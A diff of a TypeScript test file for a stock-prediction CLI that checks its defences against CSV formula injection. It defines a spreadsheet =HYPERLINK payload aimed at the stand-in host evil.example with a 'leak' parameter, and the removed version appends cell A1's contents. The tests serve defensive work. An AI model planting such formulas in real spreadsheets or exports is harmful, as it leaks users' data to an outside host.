@@ -1,5 +1,5 @@
 import { expect } from 'chai';
-import { readFileSync, writeFileSync } from 'node:fs';
+import { existsSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { featuresForFile } from '../../src/core/dataset/index.js';
 import { defaultFeatureSpec } from '../../src/core/features/index.js';
@@ -10,7 +10,7 @@ import { json, mm } from './run-cli.js';
 
 const TRAIN = fixture('cli', 'NVDA_train.csv');
 const PREDICT = fixture('cli', 'NVDA_predict.csv');
-const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
+const HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","click")';
 
 /** A simple RFC 4180 line splitter (quoted cells with doubled quotes). */
 function cells(line: string): string[] {
@@ -108,18 +108,32 @@ describe('written tables and --json: exact numbers, no formulas', () => {
     });
   });
 
-  it('predict --out neutralises a formula in the symbol column', async () => {
-    // The attack of the issue: a bar file whose symbol column carries a formula.
+  it('a formula in a symbol column is refused at input (exit 3), so no prediction table can carry it', async () => {
+    // The attack of the issue: a bar file whose symbol column carries a formula. The symbol grammar
+    // stops it where it enters; the CSV writer's neutralisation (below) is the second wall.
     const evil = join(reg, 'evil_input.csv');
     const src = readFileSync(PREDICT, 'utf8').trimEnd().split('\n');
-    const quoted = `"${HYPERLINK.replace(/"/g, '""')}"`;
-    writeFileSync(evil, src.map((l, i) => `${i === 0 ? 'symbol' : quoted},${l}`).join('\n') + '\n');
+    writeFileSync(evil, src.map((l, i) => `${i === 0 ? 'symbol' : '"=A1+1"'},${l}`).join('\n') + '\n');
     const out = join(reg, 'evil.csv');
     const r = await mm(['predict', evil, '--model', 'latest', '--registry', reg, '--out', out]);
-    expect(r.exitCode, r.stderr).to.equal(0);
-    const lines = readFileSync(out, 'utf8').trimEnd().split('\n').slice(1);
-    expect(lines.length).to.be.above(0);
-    // Symbols are upper-cased on input; the cell must start with the quote, never with '='.
-    for (const l of lines) expect(cells(l)[0]).to.equal(`'${HYPERLINK.toUpperCase()}`);
+    expect(r.exitCode, r.stderr).to.equal(3);
+    expect(existsSync(out)).to.equal(false);
+  });
+
+  it('a formula in a run tag reaches the CSV of `mm runs diff` in a pipe only neutralised', async () => {
+    const a = json<{ runId: string }>(await mm(['train', TRAIN, '--trees', '3', '--tag', 'note=plain', '--registry', reg, '--json']));
+    const b = json<{ runId: string }>(await mm(['train', TRAIN, '--trees', '3', '--tag', `note=${HYPERLINK}`, '--registry', reg, '--json']));
+    const tty = process.stdout.isTTY;
+    process.stdout.isTTY = false; // a pipe: the table goes out as CSV
+    try {
+      const r = await mm(['runs', 'diff', a.runId, b.runId, '--registry', reg]);
+      expect(r.exitCode, r.stderr).to.equal(0);
+      const row = r.stdout.split('\n').map(cells).find((c) => c[0] === 'tags.note');
+      expect(row, r.stdout).to.not.equal(undefined);
+      expect(row?.[1]).to.equal('plain');
+      expect(row?.[2]).to.equal(`'${HYPERLINK}`);
+    } finally {
+      process.stdout.isTTY = tty;
+    }
   });
 });
